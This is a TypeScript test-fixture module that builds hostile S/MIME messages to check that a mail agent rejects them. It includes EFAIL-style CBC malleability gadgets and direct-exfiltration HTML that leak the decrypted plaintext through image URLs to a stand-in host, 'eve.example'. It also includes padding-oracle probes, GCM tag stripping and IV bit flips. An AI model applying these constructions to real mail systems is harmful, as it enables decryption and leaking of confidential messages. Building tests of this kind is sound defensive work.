import { createDecipheriv } from 'node:crypto'
import { contentAlgorithm } from '../../../agent/smime/algorithms.ts'
import { context, tlv } from '../../../agent/smime/ber/der.ts'
import type { Hostile } from './hostile.ts'
import { cbc, envelope, gcm, IV, KEY, keyTrans, NONCE } from './hostile.ts'
import { header, mail, signed, wrapped } from './opening.ts'
import { bob } from './parties.ts'

/**
 * Ciphertext of clinic A that somebody changed who knows neither key nor plaintext, but for the first bytes that every
 * such message has (the EFAIL attacks of 2018), and padding oracles.
 */

const SECRET = wrapped({}, 'Content-Type: text/plain\r\n\r\nThe patient must not be named.\r\n')
const PLAINTEXT = Buffer.from(signed(SECRET))
const CIPHERTEXT = cbc(PLAINTEXT)
const KNOWN = PLAINTEXT.subarray(0, 16)

function xor(...all: readonly Uint8Array[]): Buffer {
  const out = Buffer.alloc(16)
  for (const one of all) for (const [i, byte] of one.entries()) out[i] = (out[i] as number) ^ byte
  return out
}

/** An initialisation vector under which the first block reads as is wished. */
const ivFor = (wanted: string) => xor(IV, KNOWN, Buffer.from(wanted))

/** Two blocks, random bytes and then what is wished: X, C0 with P(C0) = D(C0) xor IV known. */
const gadget = (wanted: string) => [xor(IV, KNOWN, Buffer.from(wanted)), CIPHERTEXT.subarray(0, 16)]

function spliced(iv: Uint8Array, ciphertext: Uint8Array): Buffer {
  return envelope('', {
    recipientInfos: [keyTrans(bob)],
    algorithm: contentAlgorithm({ cipher: 'aes-128-cbc', iv }),
    encryptedContent: tlv(context(0, 'primitive'), ciphertext),
  })
}

/** HTML around the stolen ciphertext: another first block, gadgets, and all of it. */
const EXFILTRATING = {
  iv: ivFor('Content-Type:te\n'),
  ciphertext: Buffer.concat([
    CIPHERTEXT.subarray(0, 16),
    ...gadget('\n\n<img ignore="a'),
    ...gadget('" src="//eve.ex/'),
    CIPHERTEXT,
  ]),
}

/** What a program without our checks would have shown. */
export function shownByOthers(): string {
  const { iv, ciphertext } = EXFILTRATING
  const decipher = createDecipheriv('aes-128-cbc', KEY, iv)
  return Buffer.concat([decipher.update(ciphertext), decipher.final()]).toString('latin1')
}

/** The honest message and two blocks behind it, of which the second shows whether it is padded rightly. */
function asking(guess: number): Buffer {
  const target = CIPHERTEXT.subarray(32, 48)
  const before = CIPHERTEXT.subarray(16, 32)
  const plain = PLAINTEXT.subarray(32, 48)
  const forged = Buffer.from(before)
  // D(target) xor forged ends in 1 where the guess is right.
  forged[15] = (before[15] as number) ^ (plain[15] as number) ^ 1 ^ guess
  return spliced(IV, Buffer.concat([CIPHERTEXT, forged, target]))
}

/** AES-GCM is counter mode: its blocks under another name, as somebody who strips the tag would send them. */
function relabelled(): Buffer {
  const encryptedContent = Buffer.from(gcm(PLAINTEXT, { recipientInfos: [keyTrans(bob)] }))
  const ciphertext = encryptedContent.subarray(-(PLAINTEXT.length + 18), -18)
  return spliced(
    Buffer.concat([NONCE, Buffer.of(0, 0, 0, 2)]),
    ciphertext.subarray(0, 16 * Math.floor(ciphertext.length / 16)),
  )
}

const multipartAround = (before: string, behind: string) => {
  const cms = spliced(IV, CIPHERTEXT)
  const base64 = cms.toString('base64').replace(/.{1,76}/g, '$&\r\n')
  const part = (body: string) => `--x\r\nContent-Type: text/html\r\n\r\n${body}\r\n`
  const encrypted = `--x\r\nContent-Type: application/pkcs7-mime; smime-type=enveloped-data\r\nContent-Transfer-Encoding: base64\r\n\r\n${base64}\r\n`
  return Buffer.from(
    `${header()}Content-Type: multipart/mixed; boundary=x\r\n\r\n${part(before)}${encrypted}${part(behind)}--x--\r\n`,
  )
}

function flipped(bit: number): Buffer {
  const iv = Buffer.from(IV)
  iv[bit >> 3] = (iv[bit >> 3] as number) ^ (1 << (bit & 7))
  return mail(spliced(iv, CIPHERTEXT))
}

/** The honest message, 128 times, with one bit of its initialisation vector flipped. */
export function flippedVectors(): readonly Buffer[] {
  return Array.from({ length: 128 }, (_, bit) => flipped(bit))
}

export const gadgets: readonly Hostile[] = [
  {
    name: 'HTML around the envelope, for a reader that puts the parts together (direct exfiltration)',
    code: 'NOT_ENCRYPTED',
    mail: () => multipartAround('<img src="http://eve.example/', '">'),
  },
  {
    name: 'the envelope as an attachment of a signed message',
    code: 'NOT_SIGNED',
    mail: () => {
      const inner = multipartAround('<p>see below</p>', '').toString('latin1')
      return mail(envelope(inner, { recipientInfos: [keyTrans(bob)] }))
    },
  },
  {
    name: 'blocks of HTML spliced before the ciphertext (malleability gadget), text/html',
    code: 'UNDECRYPTABLE',
    mail: () => mail(spliced(EXFILTRATING.iv, EXFILTRATING.ciphertext)),
  },
  {
    name: 'a first block that makes another header of it',
    code: 'UNDECRYPTABLE',
    mail: () => mail(spliced(ivFor('X-Ignore: xxxx: '), CIPHERTEXT)),
  },
  ...[0, 17, 34, 50, 68, 86, 103, 119].map(
    (bit): Hostile => ({
      name: `bit ${bit} of the initialisation vector flipped`,
      code: 'UNDECRYPTABLE',
      mail: () => flipped(bit),
    }),
  ),
  {
    name: 'two blocks behind its end that ask whether the padding is right (it is)',
    code: 'UNDECRYPTABLE',
    mail: () => mail(asking(0)),
  },
  {
    name: 'two blocks behind its end that ask whether the padding is right (it is not)',
    code: 'UNDECRYPTABLE',
    mail: () => mail(asking(1)),
  },
  {
    name: 'the blocks of an authenticated envelope, relabelled as AES-CBC',
    code: 'UNDECRYPTABLE',
    mail: () => mail(relabelled()),
  },
  {
    name: 'blocks in another order',
    code: 'UNDECRYPTABLE',
    mail: () => {
      const swapped = [CIPHERTEXT.subarray(16, 32), CIPHERTEXT.subarray(0, 16), CIPHERTEXT.subarray(32)]
      return mail(spliced(IV, Buffer.concat(swapped)))
    },
  },
  {
    name: 'its end cut off at a block',
    code: 'UNDECRYPTABLE',
    mail: () => mail(spliced(IV, CIPHERTEXT.subarray(0, -160))),
  },
]
